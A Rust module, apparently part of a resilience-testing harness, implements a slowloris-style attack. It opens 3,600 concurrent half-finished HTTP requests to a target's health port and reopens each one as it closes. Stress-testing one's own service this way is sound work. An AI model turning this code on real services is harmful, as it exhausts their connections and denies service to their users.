//! Attacks on the port of health and metrics.

use anyhow::Result;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
};

use super::stage::Stage;

/// Requests at once.
const REQUESTS: usize = 3_600;

/// Requests without an end, each begun anew when it is closed.
pub(super) async fn half_requests(stage: Stage) -> Result<()> {
    let all = (0..REQUESTS).map(|_| async {
        stage
            .again("half requests that could not be begun", async || {
                let mut stream = TcpStream::connect(stage.target.health).await?;
                stream.write_all(b"GET /health HTTP/1.1\r\nHost: a\r\nX-Slow: ").await?;
                stage.count("half requests", 1);
                // Until the other side has had enough.
                let mut byte = [0];
                while stream.read(&mut byte).await? > 0 {}
                Err(std::io::Error::from(std::io::ErrorKind::ConnectionReset).into())
            })
            .await;
    });
    futures::future::join_all(all).await;
    Ok(())
}
